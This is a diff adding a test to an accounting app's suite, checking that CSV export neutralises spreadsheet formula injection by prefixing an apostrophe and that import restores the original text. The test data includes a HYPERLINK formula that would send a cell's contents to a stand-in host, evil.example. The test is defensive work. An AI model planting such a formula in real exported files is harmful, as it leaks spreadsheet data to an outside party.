@@ -208,6 +208,36 @@ describe('CSV export', () => {
   });
 });
 
+describe('formula-looking text in CSV', () => {
+  it('is written so spreadsheets show it as text (leading apostrophe), and reads back to the same text', async () => {
+    const { u, cash } = await setup();
+    await t.api('asset.update', { id: cash, name: '-Cash' }, u.token);
+    const description = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    await t.api('accounting.create', { type: 'expense', amount: 3, asset: cash, category: 'Food', description, tags: ['@home', 'x'], date: Date.UTC(2026, 1, 3) }, u.token);
+    await t.api('accounting.create', { type: 'expense', amount: 4, asset: cash, category: 'Food', description: '+1 refill\tok', date: Date.UTC(2026, 1, 4) }, u.token);
+    const csv = (await t.api('accounting.exportCsv', {}, u.token)).data.csv as string;
+    const cells = csv
+      .trim()
+      .split('\n')
+      .slice(1)
+      .flatMap((line) => line.split(','));
+    // No cell of the file starts with a formula character (quoted cells are checked inside their quotes).
+    for (const cell of cells) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(csv).toContain(`,'-Cash,`);
+    expect(csv).toContain(`'@home;x`);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+
+    // Into another account: the same text, not the apostrophe.
+    const other = await registerUser(t);
+    await t.api('asset.create', { name: '-Cash', type: 'cash', currency: 'USD', balance: 100 }, other.token);
+    const imported = await t.api('accounting.importCsv', { csv, dryRun: false }, other.token);
+    expect(imported.data.summary).toMatchObject({ create: 2, invalid: 0 });
+    const list = (await t.api('accounting.query', { pageSize: 10 }, other.token)).data.list as Array<{ description: string; tags: string[]; assetName?: string }>;
+    expect(list.map((r) => r.description).sort()).toEqual(['+1 refill\tok', description].sort());
+    expect(list.find((r) => r.description === description)!.tags).toEqual(['@home', 'x']);
+  });
+});
+
 describe('backup and restore', () => {
   it('restores a backup into an empty account exactly, refuses a non-empty one, and appends idempotently', async () => {
     const { u, cash, bank } = await setup();
